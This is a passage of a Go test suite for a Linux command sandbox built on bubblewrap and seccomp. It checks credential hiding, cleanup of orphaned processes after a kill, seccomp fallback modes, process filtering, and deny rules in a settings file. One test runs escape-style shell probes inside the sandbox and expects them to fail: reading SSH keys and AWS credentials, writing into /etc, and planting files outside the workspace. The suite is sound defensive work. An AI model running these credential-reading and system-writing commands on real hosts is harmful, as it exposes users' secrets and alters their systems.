		assert.Check(t, os.IsNotExist(err))
	})
}

func TestCredentialsNeverOnACommandLine(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		secret := "SECRET-" + randHex(t)
		ws := id.workspace(t)
		s := id.spec(ws, `test "$TOKEN" = "`+"$"+`(cat "$MITRITY_CRED_DIR/token")" && echo same; sleep 1`)
		s.Env = append(s.Env, "TOKEN="+secret)
		s.CredFiles = map[string]string{"token": secret}
		var seen []string
		done := make(chan struct{})
		o := id.runWith(t, s, nil, func(*exec.Cmd) {
			go func() {
				defer close(done)
				for deadline := time.Now().Add(900 * time.Millisecond); time.Now().Before(deadline); time.Sleep(30 * time.Millisecond) {
					seen = append(seen, hostProcsWith(secret)...)
				}
			}()
		})
		<-done
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.stdout, "same\n"))
		assert.Check(t, is.Len(seen, 0), "a credential on a command line: %v", seen)
	})
}

// The gateway SIGKILLed mid-run: sandboxrun dies with it (parent-death
// signal), bubblewrap with sandboxrun, the sandbox with bubblewrap.
func TestKillNineLeavesNothing(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		marker := "mitrity-orphan-" + randHex(t)
		ws := id.workspace(t)
		// The markers are the processes' own argv[0] (exec -a): a bash that
		// has exec'd into sleep would lose one that was only in its script.
		s := id.spec(ws, fmt.Sprintf(`setsid bash -c 'exec -a %[1]s-d sleep 300' </dev/null >/dev/null 2>&1 & exec -a %[1]s sleep 300`, marker))
		s.Limits.Pids, s.Limits.MemoryBytes = 64, 256<<20
		// A stand-in gateway: a shell that starts sandboxrun and waits.
		gw := []string{"/bin/bash", "-c", `"$@" & wait`, "gateway-" + marker}
		running := false
		var sandboxrunPid string
		var bwrapPids []string
		id.runWith(t, s, gw, func(c *exec.Cmd) {
			deadline := time.Now().Add(10 * time.Second)
			for !running && time.Now().Before(deadline) {
				running = len(hostProcsWith(marker+"-d")) > 0
				time.Sleep(20 * time.Millisecond)
			}
			children, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%d/children", c.Process.Pid, c.Process.Pid))
			sandboxrunPid = strings.TrimSpace(string(children))
			// bubblewrap is sandboxrun's child (its command line no longer
			// names the root: the options go on a descriptor).
			bwrapPids = childrenOf(sandboxrunPid)
			c.Process.Signal(syscall.SIGKILL)
		})
		assert.Assert(t, running, "the sandboxed daemon never started")
		left := waitNoProcsWith(marker, 5*time.Second)
		assert.Check(t, is.Len(left, 0), "survived the gateway's SIGKILL: %v", left)
		assert.Check(t, len(bwrapPids) > 0, "no bubblewrap under sandboxrun %s", sandboxrunPid)
		for _, pid := range bwrapPids {
			deadline := time.Now().Add(time.Second)
			for alive(pid) && time.Now().Before(deadline) {
				time.Sleep(20 * time.Millisecond)
			}
			assert.Check(t, !alive(pid), "bubblewrap %s survived", pid)
		}

		// Its cgroups stay behind (nothing ran its cleanup); the next run
		// that makes cgroups removes them.
		if id.uid != 0 && id.runAs == nil || sandboxrunPid == "" {
			return
		}
		var stale []string
		for _, c := range []string{"memory", "pids"} {
			m, _ := filepath.Glob(filepath.Join("/sys/fs/cgroup", c, "mitrity", sandboxrunPid+"-*"))
			stale = append(stale, m...)
		}
		// (Another test's run may have swept them already: any run that makes
		// cgroups does.)
		t.Logf("stale cgroups of the killed sandboxrun: %v", stale)
		o := id.run(t, s2(id, s))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		for _, d := range stale {
			_, err := os.Stat(d)
			assert.Check(t, os.IsNotExist(err), "stale cgroup %s left", d)
		}
	})
}

// A host whose own seccomp profile forbids installing filters: preferred
// runs degraded and says so; required runs nothing.
func TestSeccompUnavailable(t *testing.T) {
	requireSandbox(t)
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("the wrapper is the test binary, reachable by root only")
	}
	self, err := os.Executable()
	assert.NilError(t, err)
	id := identity{name: "root", home: "/root"}
	for _, tc := range []struct {
		mode   sandbox.SeccompMode
		status govern.Status
	}{
		{sandbox.SeccompPreferred, govern.StatusCompleted},
		{sandbox.SeccompRequired, govern.StatusFailedToStart},
	} {
		t.Run(string(tc.mode), func(t *testing.T) {
			t.Parallel()
			ws := id.workspace(t)
			s := id.spec(ws, `touch ran`)
			s.Seccomp = tc.mode
			o := id.runWith(t, s, []string{self, denySeccompExec}, nil)
			assert.Check(t, is.Equal(o.Status, tc.status), o.Message)
			_, err := os.Stat(filepath.Join(ws, "ran"))
			if tc.status == govern.StatusCompleted {
				assert.Check(t, is.Equal(o.SandboxMode, govern.SandboxBubblewrapNoSeccomp))
				assert.Check(t, is.Contains(o.Message, "seccomp preferred but not installed"))
				assert.Check(t, err == nil)
			} else {
				assert.Check(t, is.Equal(o.Reason, govern.ReasonSandboxUnavailable))
				assert.Check(t, is.Contains(o.Message, "seccomp is required"))
				assert.Check(t, os.IsNotExist(err), "the command ran without its required filter")
			}
		})
	}
}

func TestHostTmpAndRunInvisible(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		f, err := os.CreateTemp("", "mitrity-host-visible-")
		assert.NilError(t, err)
		f.Close()
		assert.NilError(t, os.Chmod(f.Name(), 0o644))
		t.Cleanup(func() { os.Remove(f.Name()) })
		ws := id.workspace(t)
		o := id.run(t, id.spec(ws, `test -e `+f.Name()+` && echo SEEN; ls -A /run; ls -A /tmp | wc -l`))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.stdout, "mitrity\n1\n"), "host /tmp and /run are not visible (the /tmp entry is the root's parent)")
	})
}

// Every process the command can see is under the filter, bubblewrap's pid 1
// included: a same-uid process can write another's memory through
// /proc/PID/mem, so one unfiltered process would be a way out of it.
func TestEveryProcessFiltered(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		sock, _ := fakeProxy(t, scratch(t))
		ws := id.workspace(t)
		s := id.spec(ws, `for p in /proc/[0-9]*; do awk -v p="$p" '/^Seccomp:/ {print p, $2}' "$p/status"; done 2>/dev/null`)
		s.ProxySocket = sock
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		lines := strings.Split(strings.TrimSpace(o.stdout), "\n")
		assert.Check(t, len(lines) >= 2, o.stdout)
		assert.Check(t, is.Contains(o.stdout, "/proc/1 2\n"), "bubblewrap's pid 1 is filtered")
		for _, l := range lines {
			assert.Check(t, strings.HasSuffix(l, " 2"), "unfiltered: %s", l)
		}
	})
}

// s2 is spec s running true: the follow-up run after a kill.
func s2(id identity, s *sandbox.Spec) *sandbox.Spec {
	c := *id.spec(s.Cwd, "true")
	c.Limits = s.Limits
	return &c
}

// exec.sandbox.settings_file, end to end: a sandbox-runtime settings file
// read by the settings package, its narrowing carried in the spec, applied
// by the built sandboxrun. denyRead hides a file in the workspace root and
// the region around the root; denyWrite keeps a file in the writable root
// read-only; allowWrite and allowRead naming more than the sandbox allows
// change nothing. The host is checked afterwards.
func TestAttackSettingsFile(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		// Outside /tmp, which the sandbox replaces with its own.
		base, err := os.MkdirTemp("/var/tmp", "mitrity-settings-")
		assert.NilError(t, err)
		t.Cleanup(func() { os.RemoveAll(base) })
		assert.NilError(t, os.Chmod(base, 0o755))
		ws := filepath.Join(base, "ws")
		for p, v := range map[string]string{
			filepath.Join(ws, "secrets", "key"):     "SECRET-IN-ROOT",
			filepath.Join(ws, ".env"):               "TOKEN=host",
			filepath.Join(base, "beside", "secret"): "SECRET-BESIDE",
			filepath.Join(base, "shared", "readme"): "shared",
		} {
			assert.NilError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			assert.NilError(t, os.WriteFile(p, []byte(v+"\n"), 0o644))
		}
		id.own(t, base)
		home := filepath.Join(base, "home")
		secrets := plantSecrets(t, home, id, randHex(t))
		id.own(t, home)
		file := filepath.Join(base, "srt-settings.json")
		assert.NilError(t, os.WriteFile(file, []byte(`{
  "filesystem": {
    "denyRead": ["`+base+`", "secrets"],
    "allowRead": ["`+base+`/shared", "`+home+`/.ssh", "`+home+`/.aws"],
    "allowWrite": [".", "/etc", "`+base+`/beside"],
    "denyWrite": [".env"]
  }
}`), 0o644))
		st, err := settings.Load(file)
		assert.NilError(t, err)
		tag := randHex(t)
		spec := id.spec(ws, strings.Join([]string{
			`cat secrets/key 2>/dev/null && echo LEAK-root-secret`,
			`cat ` + base + `/beside/secret 2>/dev/null && echo LEAK-beside`,
			`ls ` + base + ` 2>/dev/null && echo LEAK-listed`,
			`cat ` + home + `/.ssh/id_rsa ` + home + `/.aws/credentials 2>/dev/null && echo LEAK-home`,
			`cat ` + base + `/shared/readme`,
			`echo NEW > .env 2>/dev/null && echo WROTE-env`,
			`echo x > /etc/mitrity-marker-` + tag + ` 2>/dev/null && echo WROTE-etc`,
			`echo x > ` + base + `/beside/planted 2>/dev/null && echo WROTE-beside`,
			`echo made > made && echo wrote-made`,
		}, "\n"))
		spec.DenyHomes = []string{home}
		spec.Narrowing = st.Narrowing()
		o := id.run(t, spec)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.SandboxMode, govern.SandboxBubblewrap))
		assert.Check(t, is.Equal(o.stdout, "shared\nwrote-made\n"), "stderr: %s", o.stderr)
		for _, v := range secrets {
			assert.Check(t, !strings.Contains(o.stdout, v))
		}
		b, err := os.ReadFile(filepath.Join(ws, ".env"))
		assert.Check(t, err == nil && string(b) == "TOKEN=host\n", "the denyWrite file changed on the host")
		for _, p := range []string{"/etc/mitrity-marker-" + tag, filepath.Join(base, "beside", "planted")} {
			_, err := os.Lstat(p)
			assert.Check(t, os.IsNotExist(err), "%s exists on the host", p)
		}
		b, err = os.ReadFile(filepath.Join(ws, "made"))
		assert.Check(t, err == nil && string(b) == "made\n", "the workspace root is writable")
	})
}

// The sandbox's first process is mitrity-sandboxinit, found beside the
// helper (make build installs them together), not the larger helper.
func TestInitIsItsOwnBinary(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		o := id.run(t, id.spec(ws, `grep -F ' `+sandbox.InsideInit+` ' /proc/self/mountinfo | cut -d' ' -f4`))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, strings.HasSuffix(strings.TrimSpace(o.stdout), "/"+sandbox.InitName), "bound at %s: %q", sandbox.InsideInit, o.stdout)
	})
}

// childrenOf lists the pids of pid's children.
func childrenOf(pid string) []string {
	if pid == "" {
		return nil
	}
	var out []string
	tasks, _ := os.ReadDir("/proc/" + pid + "/task")
	for _, task := range tasks {
		b, _ := os.ReadFile("/proc/" + pid + "/task/" + task.Name() + "/children")
		out = append(out, strings.Fields(string(b))...)
	}
	return out
}

// alive reports whether pid exists and is not a zombie.
func alive(pid string) bool {
	b, err := os.ReadFile("/proc/" + pid + "/stat")
	if err != nil {
		return false
	}
	i := strings.LastIndexByte(string(b), ')')
	return i < 0 || i+2 >= len(b) || b[i+2] != 'Z'
}
